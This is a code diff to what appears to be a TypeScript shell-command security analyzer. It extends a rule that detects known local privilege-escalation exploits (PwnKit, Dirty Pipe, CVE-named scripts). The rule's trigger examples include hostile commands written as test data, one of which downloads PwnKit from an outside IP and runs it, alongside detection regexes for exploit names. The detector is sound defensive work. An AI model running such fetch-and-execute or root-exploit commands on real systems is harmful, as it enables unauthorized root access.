@@ -1,6 +1,7 @@
 import { ruleAnalyzer, hasArg, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
-import { isInterpreter, isShell, isShellWord, isStagingPath } from './command_and_control.js';
+import { isInterpreter, isShell, isShellWord } from './command_and_control.js';
+import { isStagingPath } from '../knowledge/paths.js';
 import { writes, type Written } from './persistence.js';
 
 /** Binaries that hand out a shell when they run setuid or under sudo (GTFOBins). */
@@ -55,6 +56,11 @@ function parents(i: AnalysisInput): Map<SimpleCommand, SimpleCommand> {
   return out;
 }
 const interactiveShell = (c: SimpleCommand) => isShell(c.name) && !c.argv.includes('-c') && operands(c).length === 0;
+
+/** A script named for a CVE or a known local-root exploit. */
+function exploitScript(w: string | undefined): boolean {
+  return !!w && /^(cve-?\d{4}-\d{3,}|pwnkit|dirty_?(pipe|cow|cred|sock)|nimbuspwn|polkit[-_]?exploit)[\w-]*\.(py|pl|rb|sh|js)$/i.test(w.slice(w.lastIndexOf('/') + 1));
+}
 
 export const RULES: readonly Rule[] = [
   {
@@ -260,9 +266,11 @@ export const RULES: readonly Rule[] = [
     message: 'Builds or runs a known local privilege-escalation exploit', why: 'PwnKit, Dirty Pipe, Dirty COW and CVE-named binaries exist to turn a user shell into root.',
     check: (i) => {
       const exploit = (w: string) => /^(pwnkit|cve-?\d{4}-\d{3,}[\w.-]*|dirty_?(pipe|cow|c0w|cred|sock)[\w.-]*|cowroot|dirtypipez?|nimbuspwn|overlayfs[\w-]*exploit|exploit[\w.-]*|polkit[-_]?exploit)$/i.test(base(w));
-      return (i.view?.commands ?? []).filter((c) => exploit(c.argv[0]!) && c.argv[0]!.includes('/') || (c.name === 'gcc' || c.name === 'cc' || c.name === 'clang') && c.argv.some((w, k) => c.argv[k - 1] === '-o' && exploit(w))).map((c) => c.argv.join(' '));
+      // the exploit run directly, by an interpreter (`python3 CVE-2021-3156.py`), or compiled under its name
+      const script = (c: SimpleCommand) => (isInterpreter(c.name) || isShell(c.name) ? operands(c)[0] : undefined);
+      return (i.view?.commands ?? []).filter((c) => exploit(c.argv[0]!) && c.argv[0]!.includes('/') || exploitScript(script(c)) || (c.name === 'gcc' || c.name === 'cc' || c.name === 'clang') && c.argv.some((w, k) => c.argv[k - 1] === '-o' && exploit(w))).map((c) => c.argv.join(' '));
     },
-    examples: { fire: ['cd /tmp && wget http://45.33.12.7/PwnKit && chmod +x PwnKit && ./PwnKit', 'gcc -o /tmp/cve-2021-4034 /tmp/exploit.c && /tmp/cve-2021-4034', './dirtypipe /usr/bin/sudo'], quiet: ['gcc -o build/app src/main.c', './configure && make', 'grep -r CVE-2021-4034 docs/'] },
+    examples: { fire: ['cd /tmp && wget http://45.33.12.7/PwnKit && chmod +x PwnKit && ./PwnKit', 'gcc -o /tmp/cve-2021-4034 /tmp/exploit.c && /tmp/cve-2021-4034', './dirtypipe /usr/bin/sudo', 'python3 CVE-2021-3156.py', 'bash /tmp/cve-2023-0386.sh'], quiet: ['gcc -o build/app src/main.c', './configure && make', 'grep -r CVE-2021-4034 docs/', 'python3 scripts/check_cves.py'] },
   },
   {
     id: 'PX-PRIV-021', name: 'osascript-admin-prompt', score: 70, tactic: 'privilege_escalation', technique: 'T1548.004',
